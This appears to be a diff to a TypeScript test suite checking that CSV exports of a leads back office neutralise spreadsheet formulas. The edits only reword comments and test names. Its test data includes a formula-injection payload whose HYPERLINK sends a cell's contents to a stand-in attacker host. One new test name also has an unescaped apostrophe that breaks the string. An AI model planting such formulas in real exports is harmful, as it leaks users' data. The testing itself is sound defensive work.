@@ -8,7 +8,7 @@ import { insertLeads } from '#server/testing/world/many-leads.ts';
 const read = (body: string): Record<string, string>[] =>
   parse(body, { bom: true, columns: true, cast: unguardFormula });
 
-/** Texts that a spreadsheet computes, that break a line or a quote, and of many scripts. */
+/** Texts that a spreadsheet evaluates, that break a line or a quote, and in many scripts. */
 const hostile = [
   '=1+1',
   '=HYPERLINK("http://evil.example?"&A1;"Click")',
@@ -33,7 +33,7 @@ const hostile = [
 ];
 
 describe('a list as a CSV file', () => {
-  test('carries hostile text neutral to a spreadsheet and unchanged to who undoes the guard', async () => {
+  test('makes hostile text harmless to a spreadsheet, and unchanged once the guard is removed', async () => {
     const { add, get } = await createLeadsTest();
     for (const [index, text] of hostile.entries())
       await add({
@@ -58,7 +58,7 @@ describe('a list as a CSV file', () => {
       });
   });
 
-  test('holds all rows that match, in the order asked for, however many pages there are', async () => {
+  test('contains all matching rows in the requested order, however many pages there are', async () => {
     const { app, get } = await createLeadsTest();
     const count = 1203;
     await app.database.transaction((tx) => insertLeads(tx, count));
@@ -72,7 +72,7 @@ describe('a list as a CSV file', () => {
     expect(some.length).toBeGreaterThan(10);
   });
 
-  test('of every list is neutral to a spreadsheet, and unchanged to who undoes the guard', async () => {
+  test('of every list is harmless to a spreadsheet, and unchanged once the guard is removed', async () => {
     const { app, add, get, post, remove } = await createLeadsTest();
     const text = '=HYPERLINK("http://evil.example?"&A1;"Click")\n\'=1';
     const line = text.replace('\n', ' ');
@@ -90,7 +90,7 @@ describe('a list as a CSV file', () => {
 
     const lists = app.app.endpoints
       .map(({ path }) => path)
-      // A client's own file is no list of the back office.
+      // A client's own file is not a back-office list.
       .filter((path) => path.endsWith('.csv') && !/:|^\/api\/client\//.test(path));
     const holding: string[] = [];
     for (const list of lists) {
@@ -118,7 +118,7 @@ describe('a list as a CSV file', () => {
     'audit',
     'chat/sessions',
   ])(
-    'of %s has its headings even when nothing matches, and takes the query of the list',
+    'of %s has its headings even when nothing matches, and accepts the list's query',
     async (list) => {
       const { get } = await createLeadsTest();
       const empty = await get(`/api/${list}.csv?q=nobody-has-this`);
